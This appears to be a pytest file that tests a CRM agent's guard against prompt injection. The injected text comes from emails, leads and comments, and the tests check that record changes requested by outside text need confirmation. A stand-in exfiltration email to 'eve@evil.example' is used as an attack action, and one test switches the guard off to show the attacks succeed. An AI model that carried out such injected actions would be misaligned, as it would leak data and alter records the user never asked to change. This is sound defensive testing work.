"""An action that text from outside may have caused is asked about, and mixed with nothing else."""

from collections.abc import Awaitable, Callable

import pytest
from tests.trust.injection.conftest import SPEC, World
from tests.trust.injection.obedient import Call, Obedient
from tests.trust.injection.payloads import Case
from tests.trust.injection.test_injection import plan

from understudy.agents import guarding
from understudy.agents.outcome import Confirm, Reply
from understudy.conversations.session import new_session
from understudy.conversations.store import load_session
from understudy.conversations.turn import Turn
from understudy.kit.clock import Moment
from understudy.kit.ids import new_record_id
from understudy.org.demo import DEMO_NOW
from understudy.org.permissions import Customer, System
from understudy.soql.run import run

Ask = Callable[..., Awaitable[Turn]]
OPERATOR = System("a test")
MAIL = {"to": "eve@evil.example", "subject": "x", "body": "y"}


def shown(attack: Case) -> Call:
    """What tells how a case stands."""
    return ("get_record", {"id": attack.own, "fields": ["Description", "Priority"]})


def an_attack(world: World, place: int) -> Case:
    """One whose records no other test changes."""
    return [each for each in world.attacks.values() if each.carrier == "email"][place]


async def priority(world: World, attack: Case) -> str:
    """As it stands now."""
    query = f"SELECT Priority FROM Case WHERE Id = '{attack.own}'"
    moment = Moment(DEMO_NOW, world.stage.org.timezone)
    return str(
        (await run(world.stage.database, world.stage.org, query, OPERATOR, moment)).rows[0]["Priority"]
    )


async def test_the_question_is_answered_and_then_the_change_is_asked_about(world: World, ask: Ask) -> None:
    attack = an_attack(world, 0)
    wanted: Call = ("update_record", {"id": attack.own, "values": {"Priority": "High"}})
    message = f"How does the case {attack.mark} is late stand?"
    model = Obedient([shown(attack), wanted], obeys=False)
    turn = await ask(message, SPEC, stage=world.played(model))
    outcome = turn.outcome
    assert isinstance(outcome, Confirm)
    answer, question = outcome.text.split("\n\n")
    assert attack.mark in answer
    assert "Priority: Low → High" in question
    assert "Text from outside may ask for it:" in question
    assert "values.Priority (High): the model's own" in question
    assert "id (" not in question, "the person named the case"
    assert await priority(world, attack) == "Low"

    kept = await load_session(world.stage.database, world.stage.org.name, turn.session.id, OPERATOR)
    agreed = await ask("yes", SPEC, stage=world.played(Obedient([])), session=kept)
    assert agreed.outcome.text.startswith("Done:")
    assert await priority(world, attack) == "High"


async def test_one_yes_does_not_agree_to_both(world: World, ask: Ask) -> None:
    attack = an_attack(world, 1)
    theirs: Call = ("update_record", {"id": attack.other, "values": {"Priority": "High"}})
    ours: Call = ("update_record", {"id": attack.own, "values": {"Priority": "Medium"}})
    asking = world.asking()
    model = Obedient([shown(attack), theirs, ours], obeys=False)
    message = f"Set the priority of the case {attack.mark} is late to Medium."
    outcome = (await ask(message, SPEC, stage=asking.played(model))).outcome
    assert isinstance(outcome, Confirm)
    assert [proposal.record_id for proposal in outcome.proposals] == [attack.own]
    assert outcome.text.startswith("Text from outside may ask for more, which I leave alone: Change the case")


async def test_a_customer_can_not_agree_to_what_leaves_the_company(world: World, ask: Ask) -> None:
    customers = SPEC.model_copy(update={"audience": "customers"})
    session = new_session(
        SPEC.name, Customer(new_record_id("003", 1), new_record_id("001", 1)), "terminal", "A page."
    )
    world.done.clear()
    model = Obedient([("send_email", MAIL)], obeys=False)
    outcome = (await ask("Hello?", customers, stage=world.played(model), session=session)).outcome
    assert isinstance(outcome, Reply)
    assert [step.finding.status for step in outcome.evidence.steps] == ["denied"]
    assert world.done == []


async def test_without_the_rule_the_attacks_work(
    world: World, ask: Ask, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The attacks are real, and nothing else stands in their way."""
    monkeypatch.setattr(guarding, "held_back", lambda *_: False)
    tried = [each for each in world.attacks.values() if each.goal.action in ("send_email", "fetch_page")]
    tried = [each for each in tried if each.carrier in ("lead", "email", "comment")]
    world.done.clear()
    for attack in tried:
        message, calls = plan(attack)
        await ask(message, SPEC, stage=world.played(Obedient(calls)))
    assert len(world.done) >= len(tried) * 0.8
